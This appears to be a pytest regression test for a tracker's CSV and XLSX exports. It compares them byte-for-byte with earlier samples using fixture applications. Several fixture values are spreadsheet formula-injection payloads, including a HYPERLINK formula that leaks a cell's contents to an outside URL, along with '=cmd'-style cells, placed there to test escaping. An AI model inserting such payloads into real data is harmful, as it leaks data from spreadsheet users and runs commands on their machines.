"""Exports are byte-for-byte what they were before the SQL rewrite (issue 15, part 4).

tests/samples/exports/ holds files written by the export of Python-per-row joins (before
the related values moved into SQL) from the fixture set below: hostile cells, quotes,
line breaks, control characters, unlisted languages, unknown codes, shared tags, NULL
scores, partial visibility of means. The exports of today must reproduce them exactly.
"""

from __future__ import annotations

import io
import json
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.utils.escape import unescape

from tests.test_exports import SCORES, post_export
from tracker.applications.ratings import add_rating
from tracker.exports import export_rows, write_csv
from tracker.extensions import db
from tracker.inbox.filter import InboxFilter
from tracker.models import ApplicationLanguage, ApplicationTopic, Document, Tag

SAMPLES = Path(__file__).parent / "samples" / "exports"
PEOPLE = [
    # full_name, email, phone, country, country_other, city, status
    ("Nino Beridze", "nino@example.org", "+995 555 12 34", "georgia", None, "Kutaisi", "new"),
    ('=HYPERLINK("http://x/?"&A1)', "h@example.org", None, "elsewhere", "@Germany", "-Berlin",
     "in_review"),
    ('Anna "Ani" Petrosyan', "ani@example.org", "0049 30 1234", "armenia", None,
     "Yerevan, Kentron", "shortlisted"),
    ("Zaur\nAliyev", "zaur@example.org", None, "azerbaijan", None, "Baku\r\nAbsheron", "trial"),
    ("Мадина Ахмадова", "madina@example.org", "+7 928", "russia", None, "Грозный",
     "accepted"),
    ("\t=1+2", "tab@example.org", None, "elsewhere", "Türkiye; Iğdır", "Iğdır", "on_hold"),
    ("Giorgi\x07 Control", "ctrl@example.org", "555\x0b", "georgia", None, "Batumi",
     "rejected"),
    ("Lasha Tsereteli", "lasha@example.org", None, "georgia", None, "+Tbilisi", "withdrawn"),
]  # fmt: skip
REGIONS = [
    ["georgia"],
    ["chechnya", "ingushetia", "dagestan"],
    ["armenia", "georgia"],
    [],
    ["chechnya"],
    ["abkhazia", "south_ossetia"],
    ["adjara"],
    ["georgia", "abkhazia"],
]
LANGUAGES = [
    [("de", "B2", None)],
    [("ru", "native", None), ("other", "B1", "Udi"), ("xmf", "A2", None)],
    [("hy", "native", None), ("en", "C1", None)],
    [],
    [("ce", "native", None), ("ru", "C2", None), ("zz", "C3", None)],
    [("tr", "native", None), ("other", "A1", "=Laz"), ("lez", "B2", None)],
    [("ka", "native", None)],
    [("ka", "native", None), ("de", "A1", None), ("en", "B1", None)],
]
TOPICS = [
    ["politics"],
    ["security", "human_rights", "culture"],
    ["economy"],
    [],
    ["religion", "society"],
    ["environment", "culture"],
    ["politics", "economy"],
    ["sports"],
]
TAGS = [["photo"], ["video", "photo"], [], ["=cmd"], ["radio"], [], ["photo", "radio"], []]
DOCUMENTS = [
    ["cv", "cover_letter", "writing_sample"],
    ["writing_sample", "cv"],
    [],
    ["cover_letter"],
    ["cv"],
    ["writing_sample", "cover_letter", "cv"],
    [],
    ["cv", "writing_sample"],
]
# Application (by position) -> [(rater, scores)]; None scores are "can't judge yet".
RATINGS = {
    0: [(0, SCORES), (1, {**SCORES, "sourcing": None, "reliability": 5})],
    1: [(1, {key: 1 for key in SCORES})],
    4: [(0, {key: None for key in SCORES} | {"story_ideas": 3}), (1, SCORES)],
    5: [(0, {"regional_expertise": 2, "german_writing": 2, "sourcing": 3, "story_ideas": 3,
             "reliability": 3}),
        (1, {"regional_expertise": 4, "german_writing": 3, "sourcing": None,
             "story_ideas": 4, "reliability": 1})],
    7: [(0, {key: 5 for key in SCORES})],
}  # fmt: skip


@pytest.fixture
def golden_set(app, make_application, make_user):
    """The fixture applications (ids 1..8, received on fixed days) and the two raters."""
    app.config["PUBLIC_BASE_URL"] = "https://experts.example.org"
    raters = [
        make_user("rater-a@example.org", name="Rater A"),
        make_user("rater-b@example.org", name='=Rater "B"'),
    ]
    tags = {name: Tag(name=name) for name in ("photo", "video", "radio", "=cmd")}
    applications = []
    for position, person in enumerate(PEOPLE):
        full_name, email, phone, country, country_other, city, status = person
        application = make_application(
            reference=f"GOLD-{position:04d}-X",
            full_name=full_name,
            email=email,
            phone=phone,
            country=country,
            country_other=country_other,
            city=city,
            status=status,
            regions=REGIONS[position],
            languages=[
                ApplicationLanguage(language=code, level=level, name=name, position=at)
                for at, (code, level, name) in enumerate(LANGUAGES[position])
            ],
            topics=[ApplicationTopic(topic=topic) for topic in TOPICS[position]],
            created_at=datetime(2026, 1 + position, 3 + position, 23, 30, 5, 123456),
            assignee_id=raters[position % 2].id if position % 3 else None,
        )
        application.tags = [tags[name] for name in TAGS[position]]
        for kind in DOCUMENTS[position]:
            db.session.add(
                Document(
                    application_id=application.id,
                    kind=kind,
                    filename=f"{kind}.txt",
                    file_type="txt",
                    content_type="text/plain",
                    size=1,
                    sha256="0" * 64,
                    storage_key=f"gold-{position}-{kind}",
                )
            )
        db.session.commit()
        applications.append(application)
    for position, ratings in RATINGS.items():
        for rater, scores in ratings:
            add_rating(applications[position], by=raters[rater], scores=scores,
                       recommendation="yes")  # fmt: skip
    return applications, raters


def expected(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def assert_same(data: bytes, name: str) -> None:
    """Assert that *data* is the sample file *name*, byte for byte."""
    assert data == expected(name)


@pytest.mark.parametrize(
    ("headers", "lang", "sample"),
    [("people", "de", "all-people-de.csv"), ("keys", "en", "all-keys.csv")],
)
def test_csv_is_byte_for_byte_the_earlier_export(admin_client, golden_set, headers, lang, sample):
    response = post_export(admin_client, headers=headers, lang=lang)
    assert_same(response.data, sample)


def test_filtered_csv_of_some_columns_is_the_earlier_export(admin_client, golden_set):
    response = post_export(
        admin_client,
        source="status=new&status=in_review&status=accepted&status=withdrawn",
        columns=["reference", "languages", "tags", "rating_mean", "mean_sourcing", "received"],
        headers="people",
        lang="en",
    )
    assert_same(response.data, "some-columns-en.csv")


def test_cli_csv_is_the_earlier_export(runner, golden_set, tmp_path):
    output = tmp_path / "all.csv"
    result = runner.invoke(args=["export", "applications", "--output", str(output)])
    assert result.exit_code == 0, result.output
    assert_same(output.read_bytes(), "cli-keys.csv")


def test_an_editors_rows_are_the_earlier_export(app, golden_set):
    """An editor sees the means only of candidates they rated (here rater B)."""
    _, raters = golden_set
    with app.test_request_context():
        text = "".join(
            write_csv(export_rows(InboxFilter(), user=raters[1], headers="keys", text=True))
        )
    assert_same(text.encode(), "editor-keys.csv")


def describe_xlsx(data: bytes) -> dict:
    """Return what a spreadsheet shows of a workbook: typed cells, styles, panes, filter,
    the width of each column.

    A text keeps a control character as Excel's ``_xHHHH_`` escape (XML would turn a CR
    into a LF), which Excel decodes and openpyxl does not: decoded here. Columns of one
    width may share one ``<col>`` range: each column is listed.
    """
    sheet = load_workbook(io.BytesIO(data)).active

    def value(cell):
        if isinstance(cell.value, (datetime, date)):
            return cell.value.isoformat()
        if isinstance(cell.value, str):
            return unescape(cell.value)
        return cell.value

    return {
        "title": sheet.title,
        "freeze_panes": sheet.freeze_panes,
        "auto_filter": sheet.auto_filter.ref,
        "widths": {
            get_column_letter(position): dimension.width
            for dimension in sheet.column_dimensions.values()
            for position in range(dimension.min, dimension.max + 1)
        },
        "rows": [
            [[value(cell), cell.data_type, cell.number_format, bool(cell.font.b)] for cell in row]
            for row in sheet.iter_rows()
        ],
    }


def test_xlsx_holds_the_earlier_exports_cells(admin_client, golden_set):
    response = post_export(admin_client, fmt="xlsx", headers="people", lang="en")
    assert describe_xlsx(response.data) == json.loads(expected("all-people-en.xlsx.json"))
